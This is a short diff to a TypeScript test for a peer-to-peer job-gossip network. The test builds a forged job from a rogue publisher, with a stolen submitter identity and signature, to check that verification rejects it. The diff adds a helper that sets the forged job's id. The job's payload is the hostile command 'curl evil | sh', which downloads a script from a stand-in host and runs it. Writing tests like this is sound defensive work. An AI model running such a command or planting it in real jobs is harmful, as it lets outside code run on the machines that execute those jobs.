@@ -14,6 +14,7 @@ import { createLibp2p, type Libp2p } from 'libp2p'
 import { pEvent } from 'p-event'
 import { afterEach, describe, expect, it } from 'vitest'
 import {
+  adHocJobId,
   createJob,
   createJobTopicValidator,
   createJobVerifier,
@@ -156,6 +157,7 @@ describe('job gossip with a rogue publisher', () => {
         encoder.encode(
           JSON.stringify({
             ...createJob({ runner: CAPABILITY, payload: 'curl evil | sh' }, rogueKey),
+            id: adHocJobId(job.submitter),
             submitter: job.submitter,
             signatures: [{ key: job.submitter, sig: job.signatures[0]?.sig }],
           }),
